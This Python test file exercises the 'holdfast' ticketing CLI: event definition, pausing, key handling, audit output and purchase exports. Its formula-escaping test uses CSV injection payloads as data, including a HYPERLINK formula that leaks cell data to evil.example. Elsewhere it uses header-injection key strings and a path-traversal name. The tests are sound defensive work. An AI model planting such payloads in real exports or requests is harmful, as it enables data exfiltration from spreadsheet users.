"""`holdfast event` and `holdfast export` against a running service."""

import contextlib
import csv
import http.client
import io
import json
import os
import pathlib
import stat
import subprocess

from support.service import Server, ServiceCase, binary, clean_environment, command, event, make_key
from support.stand_in import Room, stand_in
from support.wire import PATIENCE

NOBODY = "http://127.0.0.1:1"
SHOP = event({"floor": 10_000}, "shop", types=[
    {"code": "GA", "name": "Floor", "price": 500, "pools": ["floor"]},
    {"code": "BOX", "name": "Box, 4 seats", "price": 4000, "pools": ["floor"]}])


class Commands(Room, ServiceCase):
    """One service, a key for each role."""

    events = (SHOP,)
    names = iter(range(1, 1_000_000))

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.key = make_key(cls.server)
        cls.looks = make_key(cls.server, "viewer", "accounts")

    @property
    def url(self):
        """The service's address."""
        return f"http://127.0.0.1:{self.server.port}"

    def run_it(self, *arguments, key="operator", url=None, **more):
        """Run a command against the service as the operator, or with another key, or with none."""
        environment = {"HOLDFAST_URL": url or self.url}
        if key:
            environment["HOLDFAST_KEY"] = self.key if key == "operator" else key
        return command(*arguments, env=environment, **more)

    def fine(self, *arguments, **more):
        """Run a command that must succeed; return its output."""
        run = self.run_it(*arguments, **more)
        self.assertEqual((run.returncode, run.stderr), (0, ""), run)
        return run.stdout

    def shown(self, name):
        """Return the event from the API."""
        return self.server.get(f"/v1/events/{name}").json()

    def make(self, places=10, **members):
        """Define a new event with the command; return its name, document and file."""
        name = f"made-{next(self.names)}"
        document = event(places, name, **members)
        path = self.file("event.json", document)
        self.assertEqual(self.fine("event", "define", path), f"{name}: made\n")
        return name, document, path

    def hold(self, name, kind="GA", count=1):
        """Hold places over the API; return the answer."""
        fields = ["Content-Type: application/json", f"Idempotency-Key: hold-{next(self.names):016}"]
        body = json.dumps({"lines": [{"type": kind, "quantity": count}]}).encode()
        return self.server.ask("POST", f"/v1/events/{name}/holds", fields, body)

    def sell(self, name, **paid):
        """Sell a ticket over the API."""
        held = self.hold(name, paid.pop("kind", "GA")).json()
        answer = self.server.ask(
            "POST", f"/v1/holds/{held['id']}/purchase",
            [f"Authorization: Bearer {held['token']}", "Content-Type: application/json"], json.dumps(paid).encode())
        self.assertEqual(answer.status, 200, answer)

    def test_help(self):
        """Each command has help with examples and says what it needs."""
        for words in (["event"], ["event", "define"], ["event", "capacity"], ["export", "purchases"]):
            self.assertIn("EXAMPLES", command(*words, "--help").stdout)
        shown = command("event", "pause", "--help").stdout
        for word in ("--url", "--key-file", "HOLDFAST_URL", "HOLDFAST_KEY", "--json"):
            self.assertIn(word, shown)

    def test_looking(self):
        """list and show need no key and show the API's answer; with --json byte for byte."""
        # A name cannot contain characters that turn or hide text, so it is shown unchanged.
        name, _, _ = self.make({"floor": 12_345}, name="Evil \u200f name", hold_seconds=77)
        self.server.ask("GET", f"/v1/events/{name}")
        lines = [line.split(None, 2) for line in self.fine("event", "list", key=None).splitlines()]
        self.assertEqual(lines[0], ["EVENT", "STATE", "NAME"])
        self.assertEqual([line[:2] for line in lines if line[0] == name], [[name, "open"]])
        listed = json.loads(self.fine("event", "list", "--json", key=None))
        self.assertEqual(listed, self.server.get("/v1/events").json())
        sheet = self.fine("event", "show", name, key=None)
        for word in ("for 77 s", "12,345", "GA", "open", self.server.get(f"/v1/events/{name}").header("etag")):
            self.assertIn(word, sheet)
        self.assertEqual(self.hold(name, count=5).status, 201)
        self.assertIn("12,340", self.fine("event", "show", name, key=None))
        for output in (sheet, self.fine("event", "list", key=None)):
            self.assertIn("Evil", output)
        shown = self.fine("event", "show", name, "--json", key=None)
        self.assertEqual(shown, self.server.get(f"/v1/events/{name}").body.decode() + "\n")
        self.one_line(self.run_it("event", "show", "nowhere"), 1, "nowhere")
        self.assertEqual(self.run_it("event", "show", "../keys").returncode, 64)

    def test_buckets(self):
        """If an event discloses no numbers, show has words, and numbers only with a key."""
        name, _, _ = self.make(1_234, disclose="buckets")
        shown = self.fine("event", "show", name, key=None)
        self.assertIn("available", shown)
        self.assertNotIn("1,234", shown)
        self.assertEqual(self.fine("event", "show", name).count("1,234"), 2)

    def test_pausing(self):
        """pause stops new holds, resume sells again; repeating either changes nothing."""
        name, _, _ = self.make()
        for _ in range(2):
            self.assertEqual(self.fine("event", "pause", name), f"{name} is paused\n")
            self.assertEqual(self.hold(name).json()["code"], "sale-paused")
        for _ in range(2):
            self.assertEqual(self.fine("event", "resume", name), f"{name} is not paused; its sale is open\n")
            self.assertEqual(self.hold(name).status, 201)
        self.assertIs(json.loads(self.fine("event", "pause", name, "--json"))["paused"], True)
        self.one_line(self.run_it("event", "pause", "nowhere"), 1, "unknown-event")

    def test_keys(self):
        """A key comes from the environment or a file, never from the command line; refusals say what is wrong, but not
        the key."""
        name, _, _ = self.make()
        file = self.file("key", f"{self.key}\n")
        wrong = self.key[:-1] + ("A" if self.key[-1] != "A" else "Q")
        self.assertEqual(self.fine("event", "pause", name, "--key-file", file, key=wrong), f"{name} is paused\n")
        self.assertEqual(self.run_it("event", "resume", name, "--key", self.key, key=None).returncode, 64)
        self.one_line(self.run_it("event", "resume", name, key=None), 1, "HOLDFAST_KEY", "--key-file")
        self.one_line(self.run_it("event", "resume", name, key=wrong), 1, "not know this key")
        self.one_line(self.run_it("event", "resume", name, key=self.looks), 1, "look")
        self.one_line(self.run_it("event", "resume", name, key="secret\r\nX: y"), 78, "HOLDFAST_KEY")
        self.one_line(self.run_it("event", "resume", name, "--key-file", "/nowhere/key"), 78, "/nowhere/key")
        self.one_line(self.run_it("event", "resume", name, "--key-file", self.file("k", "hfk_\x00")), 78)
        for key in (wrong, self.looks, "sesame\r\nX: y", "hfk_3f9ab2cd_sesame sesame", "hfk_" + 200 * "sesame"):
            for arguments in (["event", "resume", name], ["event", "define", self.file("x.json", event(1, "x"))],
                              ["export", "purchases", name, "--force"], ["export", "purchases", "nowhere"]):
                run = self.run_it(*arguments, key=key)
                self.assertNotEqual(run.returncode, 0)
                for secret in (wrong[13:], self.looks[13:], "sesame"):
                    self.assertNotIn(secret, run.stdout + run.stderr)
        self.assertIs(self.shown(name)["paused"], True)
        leaving = make_key(self.server, name="Leaving")
        self.assertEqual(self.run_it("event", "resume", name, key=leaving).returncode, 0)
        command("key", "revoke", leaving.split("_")[1], "--data", self.server.data)
        self.one_line(self.run_it("event", "pause", name, key=leaving), 1, "not know this key", "revoked")
        self.assertIs(self.shown(name)["paused"], False)

    def test_audit_names_the_key(self):
        """The audit has each change of a command under its key."""
        name, _, _ = self.make()
        self.fine("event", "pause", name)
        rows = self.server.rows(f"SELECT action, key FROM audit WHERE subject = '{name}' ORDER BY seq")
        self.assertEqual(rows, [("event.define", self.key.split("_")[1]), ("event.pause", self.key.split("_")[1])])

    def test_audit_newest(self):
        """The audit is shown oldest first or newest first, and only as much as was asked for."""
        name, _, _ = self.make()
        for word in ("pause", "resume", "cancel"):
            self.fine("event", word, name)
        shown = ["audit", "--event", name]
        words = ["event.define", "event.pause", "event.resume", "event.cancel"]

        def actions(*more):
            rows = [line.split() for line in self.fine(*shown, *more).splitlines()[1:]]
            return [word for row in rows for word in row if word in words]

        self.assertEqual(actions(), words)
        self.assertEqual(actions("--order", "newest"), words[::-1])
        self.assertEqual(actions("--order", "newest", "--most", "2"), words[:1:-1])
        for wrong in (["--order", "up"], ["--most", "0"], ["--order", "newest", "--format", "csv"]):
            self.assertEqual(self.run_it(*shown, *wrong).returncode, 64, wrong)

    def test_sheet_of_a_sale(self):
        """show says what was not checked for a hold, what it was made with, and which of its tickets came back."""
        name, _, _ = self.make(allocations={"floor": {"guests": 4}}, codes={"club": {"count": 2, "tickets": 5}})
        self.fine("event", "pause", name)
        code = self.server.ask("GET", f"/v1/events/{name}/codes?batch=club",
                               [f"Authorization: Bearer {self.key}"]).json()["codes"][1]["code"]
        body = {"lines": [{"type": "GA", "quantity": 3, "allocation": "guests"}], "override": ["pause"], "code": code}
        held = self.server.ask("POST", f"/v1/events/{name}/holds",
                               [f"Authorization: Bearer {self.key}", "Content-Type: application/json",
                                "Idempotency-Key: sheet-of-a-sale-0001"], json.dumps(body).encode()).json()
        self.server.ask("POST", f"/v1/holds/{held['id']}/purchase",
                        [f"Authorization: Bearer {self.key}", "Content-Type: application/json"], b"{}")
        purchase = "P" + held["id"][1:]
        self.fine("purchase", "return", purchase, "--line", "GA/guests=1")
        for sheet in (self.fine("hold", "show", held["id"]), self.fine("purchase", "show", purchase)):
            self.assertRegex(sheet, r"(?m)^override +pause$")
            self.assertRegex(sheet, rf"(?m)^code +club 2 {code}$")
            self.assertIn("3 × GA/guests at", sheet)
        self.assertIn(", 1 returned", self.fine("purchase", "show", purchase))

    def test_defining(self):
        """define makes an event, leaves an equal one alone, and shows every difference."""
        name, document, path = self.make({"floor": 10, "box": 2})
        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 10, "box": 2})
        tag = self.server.get(f"/v1/events/{name}").header("etag")
        self.assertEqual(self.fine("event", "define", path), f"{name}: unchanged\n")
        self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)
        document["pools"] = {"floor": 12_000, "side": 7}
        document["types"] = [{"code": "GA", "price": 500, "pools": ["floor"]}, {"code": "S", "pools": ["side"]}]
        document["sale"] = {"closes_at": "2100-01-01T00:00:00Z"}
        path = self.file("new.json", document)
        dry = self.fine("event", "define", "--dry-run", path).splitlines()
        self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)
        told = self.fine("event", "define", path).splitlines()
        self.assertEqual((dry[0], told[0]), (f"{name}: would be replaced", f"{name}: replaced"))
        self.assertEqual(dry[1:], told[1:])
        self.assertEqual([line.split(None, 1) for line in told[1:]], [
            ["sale.closes_at", "null -> 2100-01-01T00:00:00.000Z"], ["pools.floor", "10 -> 12,000"],
            ["pools.side", "new: 7"], ["types.GA.price", "0 -> 500"], ["types.S.name", "new: S"],
            ["types.S.price", "new: 0"], ["types.S.pools", "new: side"], ["pools.box", "removed, was 2"],
            ["types.BOX.name", "removed, was BOX"], ["types.BOX.price", "removed, was 0"],
            ["types.BOX.pools", "removed, was box"]])
        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 12_000, "side": 7})
        document["types"].reverse()
        told = self.fine("event", "define", self.file("order.json", document))
        self.assertIn("order of its pools or types", told)
        self.assertEqual([one["code"] for one in self.shown(name)["definition"]["types"]], ["S", "GA"])
        answer = json.loads(self.fine("event", "define", "--json", path))
        self.assertEqual(answer, self.shown(name))

    def test_mistakes_in_files(self):
        """Every mistake of every file is shown at once with its place, and nothing is done."""
        good = self.file("good.json", event(1, "never-made"))
        bad = self.file("bad.json", event({"floor": -1}, "b d", hold_seconds=0, wrong=1))
        broken = self.file("broken.json", '{"id": "x",\n  "pools" 3}')
        run = self.run_it("event", "define", good, bad, broken, "/nowhere/file.json")
        self.assertEqual((run.returncode, run.stdout), (78, ""))
        for word in (bad, "/id", "/pools/floor", "/hold_seconds", "/wrong", broken, "line 2", "/nowhere/file.json"):
            self.assertIn(word, run.stderr)
        self.one_line(self.run_it("event", "define", good, good), 78, "never-made")
        self.assertEqual(self.server.get("/v1/events/never-made").status, 404)
        self.assertEqual(self.run_it("event", "define").returncode, 64)

    def test_the_service_refuses(self):
        """A mistake that only the service can see is shown with its place, too, and nothing is changed."""
        name, document, _ = self.make({"floor": 10, "box": 2})
        self.assertEqual(self.hold(name, "BOX").status, 201)
        del document["pools"]["box"]
        del document["types"][1]
        run = self.run_it("event", "define", self.file("less.json", document))
        self.assertEqual((run.returncode, run.stdout), (1, ""))
        self.assertIn("(validation-failed)", run.stderr)
        self.assertIn("/pools", run.stderr)
        self.assertIn("box", self.shown(name)["definition"]["pools"])
        many = event(1, "large", types=[
            {"code": f"T{number}", "name": "n" * 200, "pools": ["floor"]} for number in range(400)])
        run = self.run_it("event", "define", self.file("large.json", many))
        self.one_line(run, 1, "large", "content-too-large")

    def test_capacity(self):
        """capacity sets, adds or removes places of a pool; a typing mistake changes nothing."""
        name, _, _ = self.make({"floor": 5_000, "box": 2})
        for number, places, before in (("6000", "6,000", "5,000"), ("+100", "6,100", "6,000"),
                                       ("-99", "6,001", "6,100"), ("+0", "6,001", "6,001"), ("0", "0", "6,001")):
            self.assertEqual(self.fine("event", "capacity", name, "floor", number),
                             f"{name}: floor has {places} places, had {before}\n")
            self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": int(places.replace(",", "")), "box": 2})
        answer = json.loads(self.fine("event", "capacity", "--json", name, "box", "-1"))
        self.assertEqual(answer["definition"]["pools"], {"floor": 0, "box": 1})
        tag = self.server.get(f"/v1/events/{name}").header("etag")
        self.one_line(self.run_it("event", "capacity", name, "flor", "7"), 1, "flor", "floor, box")
        self.one_line(self.run_it("event", "capacity", name, "box", "-2"), 1, "1 places")
        self.one_line(self.run_it("event", "capacity", "nowhere", "box", "2"), 1, "nowhere")
        run = self.run_it("event", "capacity", name, "box", "99999999999")
        self.assertEqual(run.returncode, 1)
        self.assertIn("/pools/box", run.stderr)
        for wrong in ("x", "1.5", "", "9" * 30, "--", "+", "1 2"):
            self.assertEqual(self.run_it("event", "capacity", name, "box", wrong).returncode, 64, wrong)
        self.assertEqual(self.run_it("event", "capacity", name, "box", "1", "2").returncode, 64)
        self.assertEqual(self.run_it("event", "capacity", name, "box").returncode, 64)
        self.assertEqual(self.server.get(f"/v1/events/{name}").header("etag"), tag)

    def change(self, name, document, method="PATCH"):
        """Change or make an event as another operator."""
        fields = [f"Authorization: Bearer {self.key}", "Content-Type: application/json"]
        answer = self.server.ask(method, f"/v1/events/{name}", fields + ["If-Match: *"] * (method == "PATCH"),
                                 json.dumps(document).encode())
        self.assertLess(answer.status, 300, answer)

    @contextlib.contextmanager
    def meddler(self, name, times, document, method="PATCH"):
        """Stand in front of the service, and change the event after each of the first reads of it."""
        seen = []

        def look(handler):
            length = int(handler.headers.get("Content-Length") or 0)
            inner = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=PATIENCE)
            fields = {key: value for key, value in handler.headers.items() if key.lower() != "host"}
            inner.request(handler.command, handler.path, handler.rfile.read(length), fields)
            answer = inner.getresponse()
            body = answer.read()
            inner.close()
            if handler.command == "GET" and len(seen) < times:
                seen.append(handler.path)
                self.change(name, document(len(seen)), method)
            handler.reply(answer.status, body, [("ETag", answer.getheader("ETag") or '"none"'),
                                                ("Content-Type", answer.getheader("Content-Type"))])

        with stand_in(look) as url:
            yield url
        self.assertEqual(len(seen), times)

    def test_somebody_is_faster(self):
        """define overwrites no other change; capacity adds to the current number, and gives up after a few tries."""
        name, document, _ = self.make({"floor": 100})
        path = self.file("mine.json", document | {"hold_seconds": 99})
        with self.meddler(name, 1, lambda _: {"name": "theirs"}) as url:
            self.one_line(self.run_it("event", "define", path, url=url), 1, name, "another change")
        self.assertEqual(self.shown(name)["definition"]["name"], "theirs")
        self.assertEqual(self.shown(name)["definition"]["hold_seconds"], 300)
        with self.meddler(name, 3, lambda number: {"pools": {"floor": 100 + 10 * number}}) as url:
            told = self.fine("event", "capacity", name, "floor", "+5", url=url)
        self.assertEqual(told, f"{name}: floor has 135 places, had 130\n")
        with self.meddler(name, 5, lambda number: {"pools": {"floor": 1000 + number}}) as url:
            self.one_line(self.run_it("event", "capacity", name, "floor", "+5", url=url), 1, "5 times", "nothing was done")
        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 1005})
        name = f"made-{next(self.names)}"
        path = self.file("new.json", event(1, name))
        with self.meddler(name, 1, lambda _: event(2, name), "PUT") as url:
            self.one_line(self.run_it("event", "define", path, url=url), 1, name, "another change")
        self.assertEqual(self.shown(name)["definition"]["pools"], {"floor": 2})

    def test_export(self):
        """An export, to a file or to a pipe, is what the API streams."""
        name, _, _ = self.make(1_000, types=SHOP["types"])
        for number in range(12):
            self.sell(name, kind=("GA", "BOX")[number % 2], payment_reference=f"{name},\"{number}")
        for form, kind in (("csv", "text/csv"), ("ndjson", "application/x-ndjson")):
            answer = self.server.ask("GET", f"/v1/events/{name}/purchases",
                                     [f"Authorization: Bearer {self.key}", f"Accept: {kind}"])
            path = os.path.join(self.room(), "out")
            self.assertEqual(self.fine("export", "purchases", name, "--format", form, "--output", path, key=self.looks), "")
            self.assertEqual(pathlib.Path(path).read_bytes(), answer.body)
            self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600)
            self.assertEqual(os.listdir(os.path.dirname(path)), ["out"])
            piped = subprocess.run(
                [binary(), "export", "purchases", name, "--format", form], capture_output=True, timeout=60,
                env=clean_environment({"HOLDFAST_URL": self.url, "HOLDFAST_KEY": self.key}))
            self.assertEqual((piped.returncode, piped.stdout, piped.stderr), (0, answer.body, b""))
        rows = list(csv.DictReader(io.StringIO(self.fine("export", "purchases", name))))
        self.assertEqual([row["payment_reference"] for row in rows], [f"{name},\"{number}" for number in range(12)])

    def test_export_of_formulas(self):
        """In CSV a formula gets an apostrophe, unless formulas are kept; --bom marks UTF-8."""
        name, _, _ = self.make(1_000)
        plain = ["A=1", "1+1", "'", "a-b@c.example", "é"]
        formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2", "@SUM(A1)", "\uff1d1"]
        for reference in plain + formulas:
            self.sell(name, payment_reference=f"{reference}{name}")

        def read(*more):
            text = self.fine("export", "purchases", name, *more)
            return [row["payment_reference"][:-len(name)] for row in csv.DictReader(io.StringIO(text, newline=""))]

        self.assertEqual(read(), plain + ["'" + formula for formula in formulas])
        self.assertEqual(read("--keep-formulas"), plain + formulas)
        marked = self.fine("export", "purchases", name, "--bom")
        self.assertEqual(marked, "\ufeff" + self.fine("export", "purchases", name))
        ndjson = self.fine("export", "purchases", name, "--format", "ndjson")
        self.assertEqual([json.loads(line)["payment_reference"][:-len(name)] for line in ndjson.splitlines()],
                         plain + formulas)
        for flag in ("--bom", "--keep-formulas"):
            self.assertEqual(self.run_it("export", "purchases", name, "--format", "ndjson", flag).returncode, 64)

    def test_export_and_files(self):
        """An export replaces a file only with --force, says if it cannot make one, and leaves nothing behind."""
        room = self.room()
        path = os.path.join(room, "out.csv")
        pathlib.Path(path).write_text("precious")
        self.one_line(self.run_it("export", "purchases", "shop", "--output", path), 73, path, "--force")
        self.assertEqual(pathlib.Path(path).read_text(), "precious")
        for failing in (["nowhere"], ["shop", "--url", NOBODY]):
            self.assertNotEqual(
                self.run_it("export", "purchases", *failing, "--output", path, "--force").returncode, 0)
            self.assertEqual(pathlib.Path(path).read_text(), "precious")
        self.fine("export", "purchases", "shop", "--output", path, "--force")
        self.assertTrue(pathlib.Path(path).read_text().startswith("purchase,hold,event,"))
        self.one_line(self.run_it("export", "purchases", "shop", "--output", room, "--force"), 73, room)
        self.one_line(self.run_it("export", "purchases", "shop", "--output", room + "/no/file"), 73, "No such file")
        self.one_line(self.run_it("export", "purchases", "nowhere", "--output", path + "2"), 1, "unknown-event")
        self.assertEqual(os.listdir(room), ["out.csv"])
        with open("/dev/full", "w") as full:
            run = subprocess.run([binary(), "export", "purchases", "shop"], stdout=full, stderr=subprocess.PIPE,
                                 timeout=60, text=True,
                                 env=clean_environment({"HOLDFAST_URL": self.url, "HOLDFAST_KEY": self.key}))
        self.one_line(run, 73, "No space left")
        self.assertEqual(self.run_it("export", "purchases", "shop", "--format", "xml").returncode, 64)
        self.assertEqual(self.run_it("export", "purchases", "shop", "--force").returncode, 64)

    def test_serving_with_the_variables(self):
        """The service starts although the commands' variables are set, and does not print the key."""
        with Server(event(5), environment={"HOLDFAST_URL": NOBODY, "HOLDFAST_KEY": self.key}) as server:
            self.assertNotIn(self.key[13:], server.everything_said())
        self.one_line(command("event", "list", env={"HOLDFAST_UARL": "x"}), 64, "HOLDFAST_URL?")
